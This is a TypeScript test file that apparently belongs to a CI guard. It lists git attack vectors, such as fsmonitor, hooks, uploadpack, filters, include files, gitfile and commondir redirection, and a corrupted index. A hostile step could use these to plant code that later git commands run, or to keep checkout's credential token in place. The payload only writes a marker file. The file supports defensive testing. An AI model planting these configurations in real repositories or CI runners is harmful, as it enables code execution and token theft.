// The ways a step can plant code or configuration for later git commands in the workspace, each
// found by experiment with git 2.39 (docs/adr/0003-git-protection-by-snapshot.md): trusted state
// before the step (a checkout's own config, a submodule, a worktree), the hostile step as a bash
// script (run directly by the guard's tests, inside the sandbox by the Action's), and the later,
// unsandboxed git command that would run the planted program — which writes the marker file.
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { checkoutPost } from './checkout-post.js';

export interface VectorContext {
  readonly workspace: string;
  /** Written by the planted program when something runs it. */
  readonly marker: string;
  /** A directory outside the workspace that the sandboxed step can write too (/dev/shm). */
  readonly shm: string;
  readonly runnerTemp: string;
  readonly env: Record<string, string>;
}

export interface GitVector {
  readonly name: string;
  readonly setup?: (c: VectorContext) => void;
  /** The step: a bash script, run in the workspace, that prints `P:planted` when it got through. */
  readonly step: (c: VectorContext) => string;
  /** What a later git command does: true when the attack worked (the program ran, the token stayed). */
  readonly later: (c: VectorContext) => boolean;
  /** What the guard reports as changed (relative to the workspace). */
  readonly changed: readonly string[];
}

export function git(cwd: string, args: readonly string[], env?: Record<string, string>): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync('git', ['-c', 'user.email=ci@example.com', '-c', 'user.name=ci', '-c', 'protocol.file.allow=always', ...args], {
    cwd,
    env: env ?? { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: process.env.HOME ?? '/root' },
    encoding: 'utf8',
  });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

function mustGit(cwd: string, ...args: string[]): string {
  const r = git(cwd, args);
  if (r.status !== 0) throw new Error(`git ${args.join(' ')}: ${r.stderr}`);
  return r.stdout;
}

/** Whether the planted program ran (and so could read the restored token). */
export const ran = (c: VectorContext): boolean => existsSync(c.marker);

/** A later command, then: did the planted program run? */
const after =
  (cwd: string, ...args: string[]) =>
  (c: VectorContext): boolean => {
    git(join(c.workspace, cwd), args, c.env);
    return ran(c);
  };

/** The start of every step script: `plant` writes the program git is to run later. */
const prelude = (c: VectorContext): string =>
  [
    'set -e',
    'export GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@x',
    `prog="$PWD/.cache/planted.sh"`,
    `mkdir -p .cache && printf '#!/bin/sh\\necho "ran in $PWD, token lines: $(grep -c AUTHORIZATION ${c.workspace}/.git/config)" >> ${c.marker}\\n' > "$prog" && chmod +x "$prog"`,
    // a repository of the step's own outside the workspace (/dev/shm outlives the step)
    `evil=${c.shm}/evil.git; rm -rf "$evil"; git init -q --bare "$evil"; git --git-dir="$evil" config core.bare false; git --git-dir="$evil" config core.fsmonitor "$prog"`,
  ].join('\n');

const done = 'echo P:planted';

/** A commit in a nested repository, and its gitlink in the index. */
const nestedRepo = (dir: string): string =>
  [`git init -q ${dir}`, `git -C ${dir} commit -q --allow-empty -m x`, `git -C ${dir} config core.fsmonitor "$prog"`].join('\n');
const gitlink = (path: string, oid: string): string => `git update-index --add --cacheinfo "160000,${oid},${path}"`;
const gitmodules = (name: string, path: string): string => `printf '[submodule "${name}"]\\n\\tpath = ${path}\\n\\turl = https://github.com/attacker/${name}\\n' >> .gitmodules`;

/** The token is in .git/config after checkout's post step: the post step did not get to remove it. */
export const tokenSurvivesPost = (c: VectorContext): boolean => {
  checkoutPost({ workspace: c.workspace, runnerTemp: c.runnerTemp, env: c.env });
  return readFileSync(join(c.workspace, '.git', 'config'), 'utf8').includes('AUTHORIZATION') || ran(c);
};

export const VECTORS: readonly GitVector[] = [
  {
    name: "a new nested repository with core.fsmonitor, its gitlink and a .gitmodules entry: checkout's post step (git submodule foreach --recursive)",
    step: (c) => [prelude(c), nestedRepo('vendor/evil'), gitlink('vendor/evil', '$(git -C vendor/evil rev-parse HEAD)'), gitmodules('evil', 'vendor/evil'), done].join('\n'),
    later: (c) => {
      checkoutPost({ workspace: c.workspace, runnerTemp: c.runnerTemp, env: c.env });
      return ran(c);
    },
    changed: ['.git/index', '.gitmodules', 'vendor/evil/.git'],
  },
  {
    name: 'a new nested repository alone: a later step working in that directory (git status)',
    step: (c) => [prelude(c), nestedRepo('packages/app'), done].join('\n'),
    later: after('packages/app', 'status'),
    changed: ['packages/app/.git'],
  },
  {
    name: 'a gitfile pointing at a prepared git directory outside the workspace, with a gitlink: git status in the checkout',
    step: (c) => [prelude(c), 'mkdir -p lib/x', 'echo "gitdir: $evil" > lib/x/.git', gitlink('lib/x', '0123456789012345678901234567890123456789'), done].join('\n'),
    later: after('.', 'status'),
    changed: ['.git/index', 'lib/x/.git'],
  },
  {
    name: 'a .git symlink to a prepared git directory: git status there',
    step: (c) => [prelude(c), 'mkdir -p tools/n', 'ln -s "$evil" tools/n/.git', done].join('\n'),
    later: after('tools/n', 'status'),
    changed: ['tools/n/.git'],
  },
  {
    name: 'a bare repository laid out in a directory (HEAD, objects, refs) with remote.origin.uploadpack: git fetch there',
    step: (c) => [prelude(c), 'mkdir -p pkg && git init -q --bare pkg', 'git --git-dir=pkg config remote.origin.url "$PWD"', 'git --git-dir=pkg config remote.origin.uploadpack "$prog"', done].join('\n'),
    later: after('pkg', 'fetch', 'origin'),
    changed: ['pkg/HEAD'],
  },
  {
    name: 'a planted .git/modules/<name> with a gitlink and .gitmodules: a later git submodule update reuses it (no network needed)',
    step: (c) =>
      [
        prelude(c),
        'm=.git/modules/evil; git init -q --bare $m; git --git-dir=$m config core.bare false; git --git-dir=$m config core.fsmonitor "$prog"',
        'oid=$(git --git-dir=$m commit-tree -m x $(git --git-dir=$m mktree </dev/null)); git --git-dir=$m update-ref refs/heads/main $oid',
        'git --git-dir=$m config remote.origin.url https://github.com/attacker/evil',
        gitlink('evil', '$oid'),
        gitmodules('evil', 'evil'),
        done,
      ].join('\n'),
    later: after('.', 'submodule', 'update', '--init'),
    changed: ['.git/index', '.git/modules/evil', '.gitmodules'],
  },
  {
    name: 'a file the checkout config includes (include.path, not there yet): git status',
    setup: (c) => mustGit(c.workspace, 'config', '--local', 'include.path', '../.gitconfig.repo') && undefined,
    step: (c) => [prelude(c), `printf '[core]\\n\\tfsmonitor = %s\\n' "$prog" > .gitconfig.repo`, done].join('\n'),
    later: after('.', 'status'),
    changed: ['.gitconfig.repo'],
  },
  {
    name: 'files an includeIf target includes in turn (changed and new): git status',
    setup: (c) => {
      mkdirSync(join(c.workspace, 'ci'));
      writeFileSync(join(c.workspace, 'ci', 'git.inc'), '[include]\n\tpath = more.inc\n');
      mustGit(c.workspace, 'config', '--local', 'includeIf.onbranch:main.path', '../ci/git.inc');
    },
    step: (c) => [prelude(c), `printf '[core]\\n\\tfsmonitor = %s\\n' "$prog" > ci/more.inc`, `printf '[core]\\n\\thooksPath = %s\\n' "$PWD/.cache" >> ci/git.inc`, done].join('\n'),
    later: after('.', 'status'),
    changed: ['ci/git.inc', 'ci/more.inc'],
  },
  {
    name: 'core.hooksPath in the worktree (husky: .husky/_), a hook changed and one added: git commit',
    setup: (c) => {
      mkdirSync(join(c.workspace, '.husky', '_'), { recursive: true });
      writeFileSync(join(c.workspace, '.husky', '_', 'pre-commit'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
      mustGit(c.workspace, 'config', '--local', 'core.hooksPath', '.husky/_');
    },
    step: (c) => [prelude(c), 'cp "$prog" .husky/_/pre-commit', 'cp "$prog" .husky/_/post-commit', done].join('\n'),
    later: after('.', 'commit', '-q', '--allow-empty', '-m', 'release'),
    changed: ['.husky/_/post-commit', '.husky/_/pre-commit'],
  },
  {
    name: "a linked worktree's commondir pointed at a prepared common directory: git status in the worktree",
    setup: (c) => mustGit(c.workspace, 'worktree', 'add', '-q', 'wt', '-b', 'wt') && undefined,
    step: (c) => [prelude(c), 'mkdir -p "$evil/worktrees"', 'echo "$evil" > .git/worktrees/wt/commondir', done].join('\n'),
    later: after('wt', 'status'),
    changed: ['.git/worktrees/wt/commondir'],
  },
  {
    name: 'a new linked worktree whose common directory is prepared: git status in it',
    step: (c) => [prelude(c), 'git worktree add -q wt2 -b wt2', 'echo "$evil" > .git/worktrees/wt2/commondir', done].join('\n'),
    later: after('wt2', 'status'),
    changed: ['.git/worktrees/wt2', 'wt2/.git'],
  },
  {
    name: "a submodule's gitfile pointed at a prepared git directory: checkout's post step",
    setup: (c) => addSubmodule(c),
    step: (c) => [prelude(c), 'echo "gitdir: $evil" > sub/.git', 'git --git-dir="$evil" config remote.origin.url https://github.com/x/sub', done].join('\n'),
    later: (c) => {
      checkoutPost({ workspace: c.workspace, runnerTemp: c.runnerTemp, env: c.env });
      return ran(c);
    },
    changed: ['sub/.git'],
  },
  {
    name: "a filter defined in a submodule's config and selected by its info/attributes: git add in the submodule",
    setup: (c) => addSubmodule(c),
    step: (c) => [prelude(c), 'git -C sub config filter.x.clean "$prog"', 'echo "* filter=x" > .git/modules/sub/info/attributes', 'echo data > sub/new.txt', done].join('\n'),
    later: after('sub', 'add', 'new.txt'),
    changed: ['.git/modules/sub/config', '.git/modules/sub/info/attributes'],
  },
  {
    name: 'a legacy remote definition (.git/remotes/): git fetch from it',
    step: (c) => [prelude(c), 'mkdir -p .git/remotes', 'git --git-dir="$evil" update-ref refs/heads/x $(git rev-parse HEAD) 2>/dev/null || git push -q "$evil" HEAD:refs/heads/x', 'printf "URL: %s\\nPull: refs/heads/x:refs/heads/planted\\n" "$evil" > .git/remotes/up', done].join('\n'),
    later: (c) => git(c.workspace, ['fetch', 'up'], c.env).status === 0 || ran(c),
    changed: ['.git/remotes'],
  },
  {
    name: "a gitlink with no .gitmodules entry (no repository at all): checkout's post step dies before removing the token",
    step: (c) => [prelude(c), gitlink('ghost', '0123456789012345678901234567890123456789'), done].join('\n'),
    later: tokenSurvivesPost,
    changed: ['.git/index'],
  },
  {
    name: "a corrupt index: checkout's post step dies before removing the token",
    step: (c) => [prelude(c), 'echo garbage > .git/index', done].join('\n'),
    later: tokenSurvivesPost,
    changed: ['.git/index'],
  },
];

/** A real submodule `sub` from an upstream next to the workspace, committed. */
function addSubmodule(c: VectorContext): void {
  const up = join(c.workspace, '..', 'upstream-sub');
  mkdirSync(up, { recursive: true });
  mustGit(up, 'init', '-q', '-b', 'main');
  mustGit(up, 'commit', '-q', '--allow-empty', '-m', 'sub');
  mustGit(c.workspace, 'submodule', 'add', '-q', up, 'sub');
  mustGit(c.workspace, 'commit', '-q', '-m', 'add sub');
}
